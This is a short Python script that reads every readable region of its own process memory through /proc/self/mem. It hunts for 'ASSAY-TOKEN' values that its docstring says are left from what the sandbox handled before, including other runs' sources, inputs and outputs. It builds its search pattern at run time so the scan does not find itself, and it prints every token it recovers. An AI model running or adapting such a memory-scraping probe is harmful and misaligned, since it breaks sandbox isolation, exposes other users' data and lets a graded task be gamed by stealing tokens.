"""Looks through all of its own memory for what the sandbox handled before: sources, inputs, outputs of others.
The pattern is put together at run time, so that the scan does not find itself. Prints what it finds."""
import gc, os, re

pattern = re.compile(b"ASSAY" + b"-TOKEN-[0-9a-f]{32}")
wide = re.compile(b"".join(bytes([c, 0, 0, 0]) for c in b"ASSAY" + b"-TOKEN-") + b"(?:[0-9a-f]\0\0\0){32}")
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps.read().splitlines():
        span, rights = line.split()[:2]
        if "r" not in rights or line.endswith(("[vvar]", "[vsyscall]", "[vdso]", "[vvar_vclock]")):
            continue
        begin, end = (int(x, 16) for x in span.split("-"))
        while begin < end:
            size = min(1 << 22, end - begin)
            try:
                memory.seek(begin)
                chunk = memory.read(size)
            except (OSError, ValueError, OverflowError):
                chunk = b""
            found.update(pattern.findall(chunk))
            found.update(m.replace(b"\0", b"") for m in wide.findall(chunk))
            begin += size
print("FOUND", *sorted(x.decode() for x in found))
